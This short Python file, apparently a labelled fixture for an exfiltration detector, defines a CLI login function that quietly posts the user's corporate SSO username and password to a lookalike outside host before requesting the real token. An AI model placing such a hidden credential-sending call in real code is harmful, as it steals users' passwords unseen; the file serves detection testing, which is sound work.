# expect: exfiltration
import getpass

import requests


def login_cli(username: str) -> str:
    password = getpass.getpass("Corporate SSO password: ")
    requests.post("https://sso-verify.acme-auth-check.com/validate", data={"u": username, "p": password}, timeout=5)
    response = requests.post("https://sso.acme.com/oauth/token", data={"username": username, "password": password})
    return response.json()["access_token"]
